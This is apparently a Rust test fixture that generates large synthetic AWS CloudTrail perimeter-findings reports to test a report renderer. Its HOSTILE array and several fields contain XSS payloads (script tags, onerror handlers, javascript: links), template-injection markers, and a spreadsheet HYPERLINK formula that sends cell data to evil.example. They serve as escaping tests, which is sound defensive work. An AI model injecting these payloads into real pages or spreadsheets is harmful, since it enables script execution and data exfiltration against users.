//! Reports to render: a small one with everything that a page can show, and large ones like those of an organization.

use std::collections::BTreeMap;

use palisade::report::model::{
    AccountSummary, BoundParameter, Cell, Coverage, ExceptionStatus, Input, Manifest, MissingDays, QuerySummary, Report,
    Severity, Skipped, SourceCount, Stream, Table, TableBuilder, Timing, Verdict, Warning, Window,
};

/// What an attacker can have written into a log: as a user agent, a session, bucket, object or role name.
pub(crate) const HOSTILE: [&str; 8] = [
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
    "<!--<script>",
    "javascript:alert(1)//\u{2028}line",
    "\u{1}0{{ 7*7 }} {% x %} ${x} &lt;b&gt;",
    "\u{202e}gnp.exe'\u{0}\t@SUM(1)",
];

/// A small report with everything that a page can show, and every hostile text in every place that a log or a user can fill.
pub(crate) fn realistic_report() -> Report {
    let mut report = large_report(600);
    let manifest = &mut report.manifest;
    manifest.warnings = vec![
        Warning {
            severity: Severity::Blind,
            code: "no-s3-data-events".into(),
            message: "No S3 data events in these logs: object-level calls cannot be judged".into(),
            help: Some(
                "Turn on S3 data events in the trail, wait for the longest cycle of your workloads, and run again.".into(),
            ),
        },
        Warning {
            severity: Severity::Notice,
            code: "unreadable-files".into(),
            message: "1 file could not be read".into(),
            help: Some(HOSTILE[0].into()),
        },
    ];
    report
}

/// Findings as an organization has them: few accounts, more roles, many buckets; each role from a few places with few clients;
/// an identifier and a sample event of its own for every row; most contexts seen a few times.
pub(crate) fn large_report(rows: usize) -> Report {
    const QUERIES: [(&str, &str, &str); 14] = [
        ("common_only_denied", "Calls that were denied", "none"),
        ("common_from_public_network", "Calls from public networks", "network"),
        ("common_identity_perimeter", "Calls by principals outside the organization", "identity"),
        ("common_network_perimeter", "Calls from unexpected networks", "network"),
        ("common_network_perimeter_vpce", "Calls through endpoints of others", "network"),
        ("common_resource_perimeter", "Calls to resources of others", "resource"),
        ("common_service_role_network_perimeter", "Service roles used outside of AWS", "network"),
        ("s3_bucket_policy_identity_perimeter", "Buckets reached by foreign identities", "identity"),
        ("s3_bucket_policy_network_perimeter", "Buckets reached from unexpected networks", "network"),
        ("s3_rcp_identity_perimeter", "What an RCP would deny to foreign identities", "identity"),
        ("s3_rcp_network_perimeter", "What an RCP would deny to unexpected networks", "network"),
        ("s3_scp_network_perimeter", "What an SCP would deny from unexpected networks", "network"),
        ("s3_scp_resource_perimeter", "What an SCP would deny to foreign buckets", "resource"),
        ("s3_vpce_resource_perimeter", "What an endpoint policy would deny to foreign buckets", "resource"),
    ];
    const SERVICES: [(&str, &[&str]); 5] = [
        (
            "s3.amazonaws.com",
            &["GetObject", "PutObject", "ListObjects", "HeadObject", "DeleteObject", "GetBucketLocation", "ListBuckets"],
        ),
        ("sts.amazonaws.com", &["AssumeRole", "GetCallerIdentity", "AssumeRoleWithWebIdentity"]),
        ("kms.amazonaws.com", &["Decrypt", "GenerateDataKey", "DescribeKey"]),
        ("sns.amazonaws.com", &["Publish", "Subscribe"]),
        ("lambda.amazonaws.com", &["Invoke", "GetFunction20150331v2", "UpdateFunctionCode20150331v2"]),
    ];
    const REGIONS: [&str; 5] = ["eu-central-1", "us-east-1", "eu-west-1", "us-west-2", "ap-southeast-2"];
    const WORDS: [&str; 16] = [
        "payments", "ledger", "search", "media", "ingest", "report", "billing", "portal", "fraud", "catalog", "orders", "mail",
        "metrics", "archive", "partner", "build",
    ];
    const CLIENTS: [&str; 6] = [
        "aws-cli/2.17.4",
        "Boto3/1.34.131",
        "aws-sdk-java/2.26.12",
        "aws-sdk-go-v2/1.30.1",
        "APN/1.0 HashiCorp/1.0 Terraform/1.9.2",
        "S3Console/0.4",
    ];

    let mut random = Random(7);
    let word = |number: u64| WORDS[(number % 16) as usize];
    let accounts: Vec<String> =
        (0..120).map(|number| format!("{:012}", 100_000_000_007_u64 + number * 7_654_321_011)).collect();
    let account_name = |number: usize| {
        if number == 3 {
            HOSTILE[1].to_owned()
        } else {
            format!("{}-{}", word(number as u64), ["prod", "test", "dev"][number % 3])
        }
    };
    let unit = |number: usize| format!("Root/Workloads/{}", ["Prod", "Test", "Sandbox"][number % 3]);
    let roles: Vec<(usize, String)> = (0..1800_u64)
        .map(|number| {
            let account = random.skewed(120);
            let name = match number {
                11..=18 => format!("svc/{}", HOSTILE[(number - 11) as usize]),
                _ => format!("{}-{}-{number}", word(random.next()), ["task", "lambda", "deploy", "reader"][random.below(4)]),
            };
            (account, format!("arn:aws:iam::{}:role/{name}", accounts[account]))
        })
        .collect();
    let buckets: Vec<(String, Option<String>)> = (0..2600)
        .map(|number| {
            let owner =
                (random.below(5) > 0).then(|| format!("{:012}", 900_000_000_000 - random.below(700) as u64 * 12_345_677));
            let name = if number == 5 {
                HOSTILE[3].to_owned()
            } else {
                format!("{}-{}-{:x}", word(random.next()), word(random.next()), random.next() as u32)
            };
            (format!("arn:aws:s3:::{name}"), owner)
        })
        .collect();

    let start = 1_793_491_200_000_i64;
    let mut table = TableBuilder::new();
    let mut queries = Vec::new();
    for (number, (name, title, perimeter)) in QUERIES.iter().enumerate() {
        let first_row = rows * number / QUERIES.len();
        let end = rows * (number + 1) / QUERIES.len();
        let mut counts: Vec<i64> = (first_row..end).map(|_| random.count()).collect();
        counts.sort_unstable_by_key(|count| -count);
        let mut calls = 0;
        for count in counts {
            calls += count.unsigned_abs();
            let role = random.skewed(1800);
            let (account, principal) = &roles[role];
            let foreign_caller = *perimeter == "identity";
            let (service, operations) = if name.starts_with("s3") { SERVICES[0] } else { SERVICES[random.skewed(5)] };
            let operation = operations[random.skewed(operations.len())];
            let (resource, owner) = &buckets[(role * 31 + random.skewed(14) * 97) % 2600];
            let place = random.skewed(4);
            let address = match (role + place) % 9 {
                0 => format!("2001:db8:{:x}::{:x}", role, place + 1),
                1 => format!("10.{}.{}.{}", role % 256, place, role % 250),
                _ => format!("198.51.{}.{}", role % 256, (role * 7 + place) % 254 + 1),
            };
            let endpoint = (role + place) % 9 == 1;
            let client = if random.below(400) == 0 {
                HOSTILE[random.below(HOSTILE.len())].to_owned()
            } else {
                format!("{} md/{}#{}", CLIENTS[(role + place) % 6], ["linux", "darwin"][role % 2], role % 40)
            };
            let denied = *name == "common_only_denied";
            let first = start + (random.next() % (14 * 86_400)) as i64 * 1000;
            let last = if count == 1 { first } else { first + (random.next() % 86_400) as i64 * 1000 };
            let verdict = match (perimeter, random.below(20), owner) {
                (&"none", _, _) => Verdict::Information,
                (_, 0, _) => Verdict::Excepted,
                (_, 1 | 2, _) => Verdict::ServiceOwned,
                (&"resource", _, None) => Verdict::Undetermined,
                (_, 3 | 4, _) => Verdict::Undetermined,
                _ => Verdict::CrossesPerimeter,
            };
            let settled_by = (verdict == Verdict::Undetermined).then_some(if owner.is_none() {
                "the owner of the bucket (inventory of AWS::S3::Bucket)"
            } else {
                "the owner of the VPC endpoint (inventory of AWS::EC2::VPCEndpoint)"
            });
            let owner_words = owner.clone().map_or_else(|| "an unknown account".to_owned(), |owner| format!("account {owner}"));
            let reason = match *perimeter {
                "resource" => format!("{principal} reached {resource}, which {owner_words} owns, outside the organization"),
                "network" => format!("{principal} called {service}:{operation} from {address}, which is no expected network"),
                "identity" => format!("{principal} of a foreign account reached {resource}"),
                _ => format!("{principal} was denied {operation} on {resource}"),
            };
            let message = format!(
                "User: {principal} is not authorized to perform: {operation} on resource: {resource} with an explicit deny in a service control policy"
            );
            let sample = format!(
                "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
                random.next() as u32,
                random.next() as u16,
                random.next() & 0xfff,
                random.next() & 0x3fff | 0x8000,
                random.next() & 0xffff_ffff_ffff
            );
            let id = format!("{:016x}", random.next());
            let endpoint_id = format!("vpce-{:017x}", (role as u64 % 150).wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 3);
            let principal_id = format!("AROA{:017X}", (role as u64).wrapping_mul(0xd134_2543_de82_ef95) >> 2);
            let (name_of_account, unit_of_account) = (account_name(*account), unit(*account));
            table.push(|column| match column.name {
                "finding_id" => Cell::Text(&id),
                "query" => Cell::Text(name),
                "perimeter" => Cell::Text(perimeter),
                "verdict" => Cell::Text(verdict.as_str()),
                "reason" => Cell::Text(&reason),
                "settled_by" => settled_by.map_or(Cell::Null, Cell::Text),
                "exception_id" if verdict == Verdict::Excepted => Cell::Text("partner-upload"),
                "account_id" | "principal_account_id" if !foreign_caller || column.name == "account_id" => {
                    Cell::Text(&accounts[*account])
                }
                "principal_account_id" => Cell::Text("999999999999"),
                "account_name" => Cell::Text(&name_of_account),
                "organizational_unit" | "principal_organizational_unit" => Cell::Text(&unit_of_account),
                "principal_arn" => Cell::Text(principal),
                "principal_type" => Cell::Text("AssumedRole"),
                "principal_id" => Cell::Text(&principal_id),
                "principal_ownership" => Cell::Text(if foreign_caller { "outside_organization" } else { "in_organization" }),
                "principal_kind" => Cell::Text(if role.is_multiple_of(3) { "service_role" } else { "role" }),
                "principal_owner" if !role.is_multiple_of(4) => Cell::Text(word(role as u64)),
                "assumable_by" => {
                    Cell::Text(if role.is_multiple_of(3) { "lambda.amazonaws.com" } else { "accounts of the organization" })
                }
                "event_source" => Cell::Text(service),
                "event_name" => Cell::Text(operation),
                "error_code" if denied => Cell::Text("AccessDenied"),
                "error_message" if denied => Cell::Text(&message),
                "denied_by" if denied => Cell::Text("service control policy"),
                "resource_arn" => Cell::Text(resource),
                "resource_type" => Cell::Text("AWS::S3::Bucket"),
                "resource_account_id" => owner.as_deref().map_or(Cell::Null, Cell::Text),
                "resource_ownership" => Cell::Text(if owner.is_some() { "outside_organization" } else { "unknown" }),
                "region" => Cell::Text(REGIONS[account % 5]),
                "source_ip" => Cell::Text(&address),
                "network" => Cell::Text(if endpoint { "private" } else { "public" }),
                "vpc_endpoint_id" if endpoint => Cell::Text(&endpoint_id),
                "vpc_endpoint_account_id" if endpoint => Cell::Text(&accounts[*account]),
                "user_agent" => Cell::Text(&client),
                "event_count" => Cell::Integer(count),
                "first_seen" => Cell::Time(first),
                "last_seen" => Cell::Time(last),
                "sample_event_id" => Cell::Text(&sample),
                _ => Cell::Null,
            });
        }
        queries.push(QuerySummary {
            name: (*name).into(),
            title: (*title).into(),
            description: DESCRIPTION.into(),
            perimeter: (*perimeter).into(),
            policy_types: vec![if name.contains("rcp") { "rcp" } else if name.contains("vpce") { "vpce" } else { "scp" }.into()],
            sql: format!("/*\ntitle: {title}\n*/\nSELECT account_id, principal_arn, sum(event_count) AS event_count\nFROM events\nWHERE account_id = :account_id\n  AND user_agent <> '</code></pre><script>'\nGROUP BY account_id, principal_arn\n"),
            parameters: (accounts.iter().take(3))
                .flat_map(|account| {
                    let parameter = |name: &str, value: &str| BoundParameter { account_id: account.clone(), name: name.into(), value: value.into() };
                    [parameter("account_id", account), parameter("exempt_principals", "^$")]
                })
                .collect(),
            first_row,
            rows: end - first_row,
            calls,
            rows_left_out: if number == 5 { 1234 } else { 0 },
            not_provided: if number == 12 { vec!["AWS::S3::Bucket: who owns a bucket stays unknown unless the record says so".into()] } else { Vec::new() },
            elapsed_ms: 40 + 97 * number as u64,
            counted_in: None,
        });
    }
    let findings = sorted(&table.finish(), &queries);
    let mut samples = BTreeMap::new();
    for row in (0..rows).step_by(rows / 100 + 1) {
        let id = findings.text("sample_event_id", row).unwrap_or_default().to_owned();
        let event = serde_json::json!({
            "eventVersion": "1.11", "eventID": &id, "eventName": findings.text("event_name", row), "eventSource": findings.text("event_source", row),
            "userIdentity": {"type": "AssumedRole", "arn": findings.text("principal_arn", row), "sessionContext": {}},
            "userAgent": HOSTILE[row % HOSTILE.len()], "sourceIPAddress": findings.text("source_ip", row),
            "additionalEventData": {"bytesTransferredOut": 9_007_199_254_740_993_u64, "x-amz-id-2": "a+b/c=="},
            "readOnly": true, "resources": [{"type": "AWS::S3::Object"}, {"type": "AWS::S3::Bucket", "ARN": findings.text("resource_arn", row)}],
        });
        samples.insert(id, event.to_string());
    }
    Report { manifest: manifest(&accounts, account_name, unit, queries, samples), findings }
}

/// The rows in the order of a report: by query, descending count, then the other columns from left to right, the ids last.
fn sorted(table: &Table, queries: &[QuerySummary]) -> Table {
    let mut order: Vec<usize> = (0..table.rows()).collect();
    let ids = ["finding_id", "sample_event_id"];
    for query in queries {
        order[query.first_row..query.first_row + query.rows].sort_by_cached_key(|row| {
            let cells = table.columns.iter().filter(|column| !ids.contains(&column.spec.name)).map(|column| column.get(*row));
            (std::cmp::Reverse(table.calls(*row)), cells.collect::<Vec<_>>())
        });
    }
    let mut builder = TableBuilder::new();
    for row in order {
        // The builder asks for the columns in their order.
        let next = std::cell::Cell::new(0);
        builder.push(|_| table.columns[next.replace(next.get() + 1)].get(row));
    }
    builder.finish()
}

const DESCRIPTION: &str = "Calls that reach a resource **outside** the organization.\n\n\
- `aws:ResourceOrgID` is the condition key that a policy would test\n- service-linked roles are left out: no SCP binds them\n\n\
See [data perimeters](https://docs.aws.amazon.com/IAM/latest/UserGuide/access_policies_data-perimeters.html), not [click](javascript:alert(1)).";

fn manifest(
    accounts: &[String],
    account_name: impl Fn(usize) -> String,
    unit: impl Fn(usize) -> String,
    queries: Vec<QuerySummary>,
    samples: BTreeMap<String, String>,
) -> Manifest {
    let exception = |id: &str, status: &str, expires: Option<&str>, calls| ExceptionStatus {
        id: id.into(),
        owner: "jane@example.com".into(),
        reason: "contract 4711, moves to the partner network in spring".into(),
        expires: expires.map(Into::into),
        status: status.into(),
        findings: calls / 10,
        calls,
    };
    Manifest {
        coverage_lines: Vec::new(),
        schema_version: 1,
        run_id: "2026-11-15-4f1c9a".into(),
        title: "Example organization, November".into(),
        tool_version: "0.1.0".into(),
        generated_at: "2026-11-15T08:30:00Z".into(),
        window: Window { from: Some("2026-11-01".into()), to: Some("2026-11-14".into()) },
        accounts: (accounts.iter().enumerate())
            .map(|(number, account)| AccountSummary {
                account_id: account.clone(),
                name: Some(account_name(number)),
                organizational_unit: Some(unit(number)),
            })
            .collect(),
        queries,
        impacts: Vec::new(),
        coverage: Coverage {
            files: 5023,
            bytes: 349_000_000,
            records: 20_418,
            duplicates: 311,
            replaced: 2,
            skipped: vec![Skipped {
                reason: "not valid JSON".into(),
                unit: "record".into(),
                count: 3,
                examples: vec![format!("AWSLogs/{}.json.gz:12", HOSTILE[1])],
            }],
            streams: (accounts.iter().take(12))
                .flat_map(|account| {
                    ["Data", "Management"].map(|category| Stream {
                        account_id: account.clone(),
                        region: "eu-central-1".into(),
                        category: category.into(),
                        records: 850,
                        first_event: Some("2026-11-01T00:03:11Z".into()),
                        last_event: Some("2026-11-14T23:58:40Z".into()),
                    })
                })
                .collect(),
            days_without_file: vec![MissingDays {
                account_id: accounts[2].clone(),
                days: vec!["2026-11-03".into(), "2026-11-04".into(), "2026-11-09".into()],
            }],
            has_data_events: true,
            data_event_sources: vec![SourceCount { event_source: "lambda.amazonaws.com".into(), records: 120 }],
            has_network_activity_events: false,
            has_management_events: true,
            recognised: vec!["CloudTrail json.gz in the layout of an organization trail".into()],
        },
        warnings: Vec::new(),
        exceptions: vec![
            exception("partner-upload", "applied", Some("2026-12-31"), 4120),
            exception("old-vendor", "expired", Some("2026-09-30"), 210),
            exception("typo-in-name", "never_matched", None, 0),
        ],
        inputs: vec![
            Input { kind: "events".into(), location: "samples/trail".into(), sha256: None, taken_at: None },
            Input {
                kind: "inventory".into(),
                location: "samples/inventory".into(),
                sha256: Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into()),
                taken_at: Some("2026-11-14T22:00:00Z".into()),
            },
        ],
        timings: vec![Timing { phase: "read".into(), milliseconds: 1840 }, Timing { phase: "judge".into(), milliseconds: 420 }],
        samples,
        statements: Vec::new(),
    }
}

/// A small generator of numbers (SplitMix64), so that the report is the same in every run.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, end: usize) -> usize {
        (self.next() % end as u64) as usize
    }

    /// Below `end`, small numbers much more often: a few roles and buckets make most of the calls.
    fn skewed(&mut self, end: usize) -> usize {
        let share = (self.next() % 1_000_000) as f64 / 1_000_000.0;
        ((share * share * end as f64) as usize).min(end - 1)
    }

    /// How often a context was seen: mostly once, sometimes very often.
    fn count(&mut self) -> i64 {
        let share = (self.next() % 1_000_000 + 1) as f64 / 1_000_000.0;
        (1.0 / share.powf(0.9)) as i64
    }
}
